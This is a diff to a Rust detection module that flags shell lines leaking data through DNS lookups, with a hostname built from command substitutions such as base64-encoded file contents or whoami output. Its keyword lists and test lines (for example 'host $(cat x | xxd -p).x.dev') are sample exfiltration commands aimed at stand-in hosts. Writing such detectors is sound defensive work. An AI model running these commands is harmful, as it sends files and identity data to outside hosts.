@@ -2,18 +2,19 @@
 //!
 //! The line is in lower case.
 
-use super::command::first_word;
+use super::line::Line;
+use super::parts::parts;
 
 /// What asks a name server.
 const RESOLVERS: &[&str] = &["dig", "nslookup", "drill", "host", "resolve-dnsname"];
-/// What data is made of that is asked for as the name of a host.
-const CARRIED: &[&str] = &["base64", "base32", "xxd", "hexdump", "od ", "cat ", "printenv", "whoami", "$"];
+/// What data is made of that is asked for as the name of a host, beside variables.
+const CARRIED: &[&str] = &["base64", "base32", "xxd", "hexdump", "od ", "cat ", "printenv", "whoami"];
 /// How many substitutions of a line are looked into.
 const MAX_PLACES: usize = 16;
 
 /// `dig $(cat x | base64).host.io`: data as the name of a host.
-pub(super) fn asked(line: &str) -> Option<usize> {
-    let at = first_word(line, RESOLVERS)?;
+pub(super) fn asked(line: Line<'_>) -> Option<usize> {
+    let at = parts!(RESOLVERS).first_word(line)?;
     let rest = line.get(at..)?;
     rest.match_indices("$(").take(MAX_PLACES).find_map(|(open, _)| {
         let inner = rest.get(open + 2..)?;
@@ -21,7 +22,7 @@ pub(super) fn asked(line: &str) -> Option<usize> {
         let host = inner.get(close + 1..)?.trim_start_matches('"').strip_prefix('.')?;
         let carried = inner.get(..close)?;
         let named = host.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '$');
-        (named && CARRIED.iter().any(|word| carried.contains(word))).then_some(at)
+        (named && (carried.contains('$') || parts!(CARRIED).are_in(carried))).then_some(at)
     })
 }
 
@@ -36,12 +37,12 @@ mod tests {
             "nslookup \"$(whoami)\".x.dev",
             "host $(cat x | xxd -p).x.dev",
         ] {
-            assert!(asked(line).is_some(), "{line}");
+            assert!(asked(line.into()).is_some(), "{line}");
         }
         for line in
             ["dig +short x.dev", "dig $(terraform output name).x.dev", "host $(hostname)", "nslookup $(cat hosts.txt)"]
         {
-            assert_eq!(asked(line), None, "{line}");
+            assert_eq!(asked(line.into()), None, "{line}");
         }
     }
 }
